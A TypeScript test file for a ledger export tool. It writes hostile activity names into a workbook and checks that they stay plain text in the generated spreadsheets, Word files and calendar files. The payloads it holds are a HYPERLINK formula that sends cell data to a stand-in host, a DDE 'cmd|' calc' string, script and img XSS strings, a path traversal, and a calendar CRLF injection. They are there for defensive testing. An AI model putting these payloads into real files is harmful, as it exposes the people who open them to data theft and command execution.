/** Text from a ledger stays text: it never becomes a formula, markup, a file's name or a pattern. */
import { readdirSync, readFileSync } from "node:fs";
import { strFromU8, unzipSync } from "fflate";
import { run, testFolder } from "../cli/run-command";
import { readFile, withTexts } from "./marked-ledger";

const at = testFolder();
const TODAY = "2026-11-22";

/** What spreadsheets and browsers would act on, each with a mark of its own. */
const HOSTILE = [
  '=HYPERLINK("http://x.invalid/?"&A1,"一号活动")',
  "+1+cmd|' /C calc'!A0 二号活动",
  "-2+3 三号活动",
  "@SUM(1) 四号活动",
  "\t=1+1 五号活动",
  "'=1+1 六号活动",
  "<img src=x onerror=alert(1)>七号活动",
  "八号活动]]><script>alert(1)</script>",
  "九号(.*+?[活动",
  "../../十号活动",
  "\r=1+1 百号活动",
  "\u0000=1+1 千号活动",
];
const MARKS = "一二三四五六七八九十百千";

beforeAll(async () => {
  await run("new", "-o", at("ledger.xlsx"), "--year", "2026", "--sample");
  withTexts(at("ledger.xlsx"), at("hostile.xlsx"), "activities", "name", HOSTILE);
  await run("generate", at("hostile.xlsx"), "--year", "2027", "--only", "schedule,budget,plan", "-o", at("made.xlsx"), "--docx", at("word"), "--ics", at("year.ics"), "--today", TODAY);
  await run("generate", at("hostile.xlsx"), "--year", "2026", "--only", "summary", "-o", at("summary.xlsx"), "--docx", at("word"), "--today", TODAY);
  await run("check", at("hostile.xlsx"), "-o", at("checked.xlsx"), "--today", TODAY);
}, 120_000);

const holdsMark = (text: string): boolean => [...MARKS].some((mark) => new RegExp(`${mark}号[^0-9]{0,12}活动|${mark}号活动`).test(text));

describe("texts that programs would act on", () => {
  it("reach the generated sheets at all, so that the rest proves something", () => {
    const said = readFile(at("made.xlsx")).book.sheets.map(({ values }) => values.flat().join("\n")).join("\n");
    expect([...MARKS].filter((mark) => said.includes(`${mark}号`)).length).toBeGreaterThan(5);
  });

  it.each(["made.xlsx", "checked.xlsx", "summary.xlsx"])("%s: no cell's formula holds one", (name) => {
    const formulas = readFile(at(name)).book.sheets.flatMap((sheet) => sheet.formulas.flatMap((row) => row ?? []).filter((formula): formula is string => formula !== undefined));
    expect(formulas.filter((formula) => holdsMark(formula) || /HYPERLINK\("http|cmd\|/.test(formula))).toEqual([]);
  });

  it.each(["made.xlsx", "checked.xlsx", "summary.xlsx"])("%s: those that begin like a formula are marked as text in the file", (name) => {
    const { book } = readFile(at(name));
    const texts = book.sheets.flatMap(({ values }) => values.flatMap((row) => row ?? [])).filter((value): value is string => typeof value === "string" && value.startsWith("=HYPERLINK"));
    expect(texts.length).toBeGreaterThan(0);
    const parts = unzipSync(new Uint8Array(readFileSync(at(name))));
    const sheets = Object.entries(parts).filter(([part]) => /worksheets\/sheet\d+\.xml$/.test(part)).map(([, bytes]) => strFromU8(bytes));
    // <f> is what calculates; a text stands in <t> or among the shared strings.
    expect(sheets.filter((xml) => /<f[^>]*>[^<]*HYPERLINK\(&quot;http/.test(xml))).toEqual([]);
  });

  it("don't become markup in any part of any file made", () => {
    const files = [at("made.xlsx"), at("checked.xlsx"), at("summary.xlsx"), ...readdirSync(at("word")).map((name) => at(`word/${name}`))];
    for (const file of files) {
      const parts = unzipSync(new Uint8Array(readFileSync(file)));
      const wrong = Object.entries(parts).filter(([part, bytes]) => /\.(?:xml|rels)$/.test(part) && /<img|<script|\]\]>/.test(strFromU8(bytes)));
      expect([file, wrong.map(([part]) => part)]).toEqual([file, []]);
    }
  });

  it("add no line to a calendar file that isn't its own", () => {
    const lines = readFileSync(at("year.ics"), "utf8").split("\r\n");
    expect(lines.filter((line) => line !== "" && !/^(?:[A-Z-]+[;:]| )/.test(line))).toEqual([]);
    expect(lines.filter((line) => line.startsWith("BEGIN:")).every((line) => /^BEGIN:(?:VCALENDAR|VEVENT|VTIMEZONE|STANDARD|VALARM)$/.test(line))).toBe(true);
  });

  it("name no file and leave no folder", () => {
    expect(readdirSync(at("word")).sort()).toEqual(["工作总结.docx", "工作计划.docx"]);
    expect(readdirSync(at("")).filter((name) => /号/.test(name))).toEqual([]);
  });
});

describe("text inside a calendar's field", () => {
  it("cannot begin a field of its own", async () => {
    withTexts(at("ledger.xlsx"), at("lines.xlsx"), "activities", "name", ["换行\r\nBEGIN:VALARM\r\nATTACH:http://x.invalid", "分号;逗号,反斜线\\活动"]);
    await run("generate", at("lines.xlsx"), "--year", "2027", "--only", "schedule", "-o", at("lines-made.xlsx"), "--ics", at("lines.ics"), "--today", TODAY);
    const lines = readFileSync(at("lines.ics"), "utf8").split("\r\n");
    expect(lines.filter((line) => line.startsWith("ATTACH"))).toEqual([]);
  }, 60_000);
});
